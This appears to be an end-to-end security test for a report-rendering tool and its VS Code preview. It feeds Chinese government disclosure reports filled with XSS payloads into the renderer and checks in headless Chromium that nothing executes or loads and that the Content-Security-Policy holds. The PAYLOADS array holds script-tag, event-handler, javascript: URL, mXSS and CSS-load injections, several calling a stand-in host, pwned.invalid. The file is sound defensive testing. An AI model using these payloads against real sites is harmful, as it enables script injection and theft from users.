/**
 * Reports whose every text field holds hostile strings (script tags, event handlers,
 * `javascript:` URLs, style breakouts, CSS `url()`, entities, bidi overrides…), exported
 * (`govreport render`) and previewed, in headless Chromium with the console, the network
 * and dialogs watched: no script runs, nothing is loaded, and hostile text never becomes an
 * element or an attribute. And both pages' Content-Security-Policy refuses script and loads
 * even when something manages to put them into the page.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import type { Page } from 'playwright-core';
import { previewShell } from '../../client/src/preview/shell';
import { runCli } from '../../server/src/cli/main';
import { check } from '../../server/src/core/check';
import { renderBody, renderHtml } from '../../server/src/core/render';
import { EXAMPLE, ROOT } from '../unit/helpers';
import { browserForTests, openWatched, type Watch } from './chromium';

/** Where a payload would call home; any request there (or anywhere but the page's own files) fails the test. */
const HOME = 'http://pwned.invalid';

const PAYLOADS = [
  '<script>alert("script")</script>',
  '<SCRIPT SRC=http://pwned.invalid/x.js></SCRIPT>',
  '"><img src=x onerror=alert("img")>',
  "'><svg/onload=alert('svg')>",
  '<svg><script>alert("svg script")</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert("mxss")></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(\'link\')">点击</a>',
  'javascript:alert("bare")',
  '<iframe src="javascript:alert(\'frame\')"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="http://pwned.invalid/o"></object><embed src="http://pwned.invalid/e">',
  '</style><script>alert("after style")</script>',
  '</title><script>alert("after title")</script>',
  '</textarea></noscript></template><script>alert("breakout")</script>',
  '<style>@import url(http://pwned.invalid/i.css); body { background: url("http://pwned.invalid/bg.png") }</style>',
  'x" style="background:url(http://pwned.invalid/attr.png)" data-x="',
  '<link rel="stylesheet" href="http://pwned.invalid/l.css"><link rel="prefetch" href="http://pwned.invalid/p">',
  '<meta http-equiv="refresh" content="0;url=http://pwned.invalid/r"><base href="http://pwned.invalid/">',
  '<input autofocus onfocus=alert("focus")><details open ontoggle=alert("toggle")>',
  '<img srcset="http://pwned.invalid/s.png 1x"><video poster="http://pwned.invalid/v.png"></video>',
  '<form action="http://pwned.invalid/f"><button formaction="javascript:alert(1)">提交</button></form>',
  '&lt;script&gt;alert("entity")&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E; &amp;lt;',
  '\u202e>tpircs/<)1(trela>tpircs<\u202c \u2066隔离\u2069 \u200f',
  '<!-- --><![CDATA[ ]]> ]]> <!--',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} `alert(1)`',
  'data:text/html,<script>alert(1)</script>',
  '\u0000<scr\u0000ipt>alert("nul")</script>',
];

/** YAML double-quoted scalar (JSON's escapes are valid YAML). */
const q = (s: string) => JSON.stringify(s);

/** A report with a hostile string in every place the renderer prints text from. */
function hostileReport(pick: (i: number) => string): string {
  let i = 0;
  const h = () => q(pick(i++));
  const row = (n: number) => `[${Array.from({ length: n }, () => h()).join(', ')}]`;
  return [
    '格式: 2021',
    `机关: ${h()}`,
    '机关类型: 部门',
    '年度: 2024',
    `统计期限: {起: ${h()}, 止: ${h()}}`,
    `落款日期: ${h()}`,
    `前言: ${h()}`,
    '总体情况:',
    ...['概述', '主动公开', '依申请公开', '政府信息管理', '平台建设', '监督保障'].map((k) => `  ${k}: ${h()}`),
    `  ${h()}: ${h()}`,
    '主动公开政府信息情况:',
    `  规章: ${row(3)}`,
    `  行政规范性文件: [1, 2, ${h()}]`,
    `  ${h()}: ${row(3)}`,
    '收到和处理政府信息公开申请情况:',
    `  本年新收政府信息公开申请数量: ${row(7)}`,
    `  上年结转政府信息公开申请数量: {自然人: ${h()}, ${h()}: 1}`,
    '  本年度办理结果:',
    `    予以公开: ${row(7)}`,
    `    ${h()}: ${row(7)}`,
    '政府信息公开行政复议、行政诉讼情况:',
    `  行政复议: ${row(5)}`,
    `存在的主要问题及改进情况: ${h()}`,
    `其他需要报告的事项: ${h()}`,
    `${h()}: ${h()}`,
    '',
  ].join('\n');
}

/** Payloads chosen at random for every field, some concatenated: fixed seed, a handful of reports. */
const reports = fc
  .sample(
    fc.array(
      fc.array(fc.constantFrom(...PAYLOADS), { minLength: 1, maxLength: 3 }).map((parts) => parts.join(' ')),
      { minLength: 64, maxLength: 64 },
    ),
    { seed: 20261127, numRuns: 2 },
  )
  .map((strings) => hostileReport((i) => strings[i % strings.length]));
/** And one that goes through the payloads in order, so each is in some field. */
reports.unshift(hostileReport((i) => PAYLOADS[i % PAYLOADS.length]));

const chromium = browserForTests();
const dir = mkdtempSync(path.join(tmpdir(), 'govreport-hostile-'));

/** The shared opener, with the context closed through `close`. */
async function open(file: string, allowed: string[], init?: string) {
  const { page, context, watch } = await openWatched(chromium.browser(), file, allowed, init);
  return { page, watch, close: () => context.close() };
}

/** Every element name and attribute name in the page (inside the report's root). */
async function shape(page: Page, root: string): Promise<{ tags: string[]; attributes: string[] }> {
  return page.evaluate((selector) => {
    const doc = (
      globalThis as unknown as {
        document: {
          querySelector(s: string): {
            querySelectorAll(s: string): ArrayLike<{ tagName: string; attributes: ArrayLike<{ name: string }> }>;
          } | null;
        };
      }
    ).document;
    const tags = new Set<string>();
    const attributes = new Set<string>();
    for (const el of Array.from(doc.querySelector(selector)!.querySelectorAll('*'))) {
      tags.add(el.tagName.toLowerCase());
      for (const a of Array.from(el.attributes)) attributes.add(a.name.replace(/^data-.*/, 'data-*'));
    }
    return { tags: [...tags].sort(), attributes: [...attributes].sort() };
  }, root);
}

/** What the renderer itself puts in a page: the shapes of the example and of the same reports with plain text, marks on. */
let benign: { tags: Set<string>; attributes: Set<string> } | undefined;
async function benignShape(): Promise<{ tags: Set<string>; attributes: Set<string> }> {
  if (benign) return benign;
  benign = { tags: new Set(), attributes: new Set() };
  for (const [n, text] of [EXAMPLE, hostileReport((i) => `普通文字 ${i}`)].entries()) {
    const file = path.join(dir, `benign-${n}.html`);
    writeFileSync(file, renderHtml(check(text), { marks: true, theme: 'export' }));
    const { page, close } = await open(file, []);
    try {
      const s = await shape(page, 'body');
      s.tags.forEach((x) => benign!.tags.add(x));
      s.attributes.forEach((x) => benign!.attributes.add(x));
    } finally {
      await close();
    }
  }
  return benign;
}

/** Hovers and clicks every element that could carry a handler, then lets any timers run out. */
async function poke(page: Page): Promise<void> {
  for (const selector of ['h1', 'td', '[title]']) {
    const el = page.locator(selector).first();
    if (await el.count()) {
      await el.hover();
      await el.click();
    }
  }
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 50)));
}

/** Puts a script and an external image into the page from outside: only the page's CSP stands in their way. */
async function inject(page: Page): Promise<boolean> {
  return page.evaluate((home) => {
    const g = globalThis as unknown as {
      document: {
        createElement(t: string): Record<string, unknown> & { setAttribute(a: string, v: string): void };
        body: { appendChild(n: unknown): void };
      };
      injected?: boolean;
    };
    const script = g.document.createElement('script');
    script.textContent = 'globalThis.injected = true; alert("injected")';
    g.document.body.appendChild(script);
    const img = g.document.createElement('img');
    img.setAttribute('src', `${home}/injected.png`);
    g.document.body.appendChild(img);
    return g.injected === true;
  }, HOME);
}

const external = (w: Watch, allowed: string[]) => w.requests.filter((u) => !allowed.includes(u));

describe('hostile text in the exported HTML and the preview', () => {
  it('exported with govreport render: no script runs, nothing loads, no element or attribute from the text', async (t) => {
    if (!chromium.ready(t)) return;
    const { tags, attributes } = await benignShape();
    for (const [n, report] of reports.entries()) {
      const input = path.join(dir, `hostile-${n}.report.yaml`);
      writeFileSync(input, report);
      for (const marks of [true, false]) {
        const out = path.join(dir, `hostile-${n}-${marks}.html`);
        const r = await runCli(['render', ...(marks ? [] : ['--no-marks']), input, '-o', out], {
          stdout: () => undefined,
          stderr: () => undefined,
          env: {},
        });
        assert.equal(r, 0);
        const url = pathToFileURL(out).href;
        const { page, watch, close } = await open(out, []);
        try {
          await poke(page);
          const s = await shape(page, 'body');
          assert.deepEqual(
            s.tags.filter((x) => !tags.has(x)),
            [],
            `report ${n}: elements made from text`,
          );
          assert.deepEqual(
            s.attributes.filter((x) => !attributes.has(x)),
            [],
            `report ${n}: attributes made from text`,
          );
          assert.deepEqual(watch.dialogs, [], `report ${n}: no alert`);
          assert.deepEqual(watch.errors, []);
          assert.deepEqual(watch.console, [], `report ${n}: no script ran and nothing was refused`);
          assert.deepEqual(external(watch, [url]), [], `report ${n}: nothing requested`);
          // The text is shown as text.
          assert.ok((await page.textContent('body'))!.includes('alert('));
        } finally {
          await close();
        }
      }
    }
  });

  it('the export’s CSP refuses a script and a load put into the page', async (t) => {
    if (!chromium.ready(t)) return;
    const file = path.join(dir, 'inject-export.html');
    writeFileSync(file, renderHtml(check(reports[0]), { marks: true, theme: 'export' }));
    const { page, watch, close } = await open(file, []);
    try {
      assert.equal(await inject(page), false, 'the injected script did not run');
      await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 50)));
      assert.deepEqual(watch.dialogs, []);
      assert.deepEqual(external(watch, [pathToFileURL(file).href]), [], 'the image was not even requested');
      assert.ok(
        watch.console.some((m) => /Content Security Policy/.test(m) && /script/.test(m)),
        watch.console.join('\n'),
      );
      assert.ok(
        watch.console.some((m) => /Content Security Policy/.test(m) && /img|image/.test(m)),
        watch.console.join('\n'),
      );
    } finally {
      await close();
    }
  });

  it('previewed: renders of hostile reports run nothing, load nothing, and the CSP refuses what is put in', async (t) => {
    if (!chromium.ready(t)) return;
    const { tags, attributes } = await benignShape();
    const media = (name: string) => pathToFileURL(path.join(ROOT, 'media', name)).href;
    const allowed = [media('preview.js'), media('preview.css')];
    const uri = 'file:///reports/hostile.report.yaml';
    const body = (text: string) => renderBody(check(text), { marks: true, theme: 'preview' });
    const file = path.join(dir, 'preview.html');
    writeFileSync(
      file,
      previewShell({
        cspSource: 'file:',
        nonce: 'aG9zdGlsZS10ZXN0',
        scriptUri: allowed[0],
        styleUri: allowed[1],
        body: body(reports[0]),
        seq: 1,
        uri,
        lang: 'zh-CN',
      }),
    );
    // Stands in for VS Code's API in the webview.
    const fakeVsCode =
      'window.posted = []; window.acquireVsCodeApi = () => ({ postMessage: (m) => window.posted.push(m), getState: () => undefined, setState: () => undefined });';
    const { page, watch, close } = await open(file, allowed, fakeVsCode);
    try {
      await page.waitForFunction(
        () => (globalThis as unknown as { posted: { type: string }[] }).posted.some((m) => m.type === 'ready'),
        undefined,
        { timeout: 10_000 },
      );
      // Each hostile report in turn, as the extension posts renders while the author types.
      for (const [n, report] of reports.entries()) {
        await page.evaluate(
          (m) => (globalThis as unknown as { postMessage(m: unknown, o: string): void }).postMessage(m, '*'),
          { type: 'render', seq: n + 2, uri, body: body(report) },
        );
        await page.waitForFunction(
          (seq) =>
            (
              globalThis as unknown as { document: { getElementById(id: string): { dataset: { seq?: string } } } }
            ).document.getElementById('govreport-preview').dataset.seq === String(seq),
          n + 2,
          { timeout: 10_000 },
        );
        await poke(page);
        const s = await shape(page, '#govreport-preview');
        assert.deepEqual(
          s.tags.filter((x) => !tags.has(x)),
          [],
          `render ${n}: elements made from text`,
        );
        assert.deepEqual(
          s.attributes.filter((x) => !attributes.has(x)),
          [],
          `render ${n}: attributes made from text`,
        );
      }
      assert.deepEqual(watch.dialogs, []);
      assert.deepEqual(watch.errors, []);
      assert.deepEqual(watch.console, [], 'no script ran and nothing was refused');
      assert.deepEqual(external(watch, [pathToFileURL(file).href, ...allowed]), []);
      // Clicking asks the extension to reveal source offsets, and scrolling tells it the line at the top: nothing else.
      const posted = await page.evaluate(() => (globalThis as unknown as { posted: { type: string }[] }).posted);
      const types = new Set(posted.map((m) => m.type));
      types.delete('scrolled');
      assert.deepEqual([...types].sort(), ['ready', 'reveal']);
      for (const m of posted.filter((x) => x.type === 'scrolled'))
        assert.deepEqual(Object.keys(m).sort(), ['line', 'type', 'uri'], JSON.stringify(m));

      assert.equal(await inject(page), false, 'the injected script did not run');
      await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 50)));
      assert.deepEqual(watch.dialogs, []);
      assert.deepEqual(external(watch, [pathToFileURL(file).href, ...allowed]), [], 'the image was not even requested');
      assert.ok(
        watch.console.some((m) => /Content Security Policy/.test(m) && /script/.test(m)),
        watch.console.join('\n'),
      );
    } finally {
      await close();
    }
  });

  it('the preview page allows only its own script and style (default-src none, a nonce, no forms, no base)', () => {
    const page = previewShell({
      cspSource: 'vscode-resource:',
      nonce: 'bm9uY2U=',
      scriptUri: 's',
      styleUri: 'c',
      body: '',
      seq: 1,
      uri: 'u',
      lang: 'zh-CN',
    });
    const unescape = (x: string) =>
      x
        .replace(/&#39;/g, "'")
        .replace(/&quot;/g, '"')
        .replace(/&amp;/g, '&');
    const csp = unescape(/http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(page)![1]);
    const directives = new Map(
      csp
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .map(([k, ...v]) => [k, v]),
    );
    assert.deepEqual(directives.get('default-src'), ["'none'"]);
    assert.deepEqual(directives.get('script-src'), ["'nonce-bm9uY2U='"]);
    assert.deepEqual(directives.get('base-uri'), ["'none'"]);
    assert.deepEqual(directives.get('form-action'), ["'none'"]);
    for (const k of ['img-src', 'connect-src', 'frame-src', 'font-src', 'media-src', 'object-src'])
      assert.equal(directives.get(k), undefined, `${k} falls back to none`);
    const exported = renderHtml(check(EXAMPLE), { marks: false, theme: 'export' });
    const exportCsp = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(exported)![1];
    assert.match(exportCsp, /^default-src 'none'; /);
    assert.doesNotMatch(exportCsp, /script-src|unsafe/);
  });
});
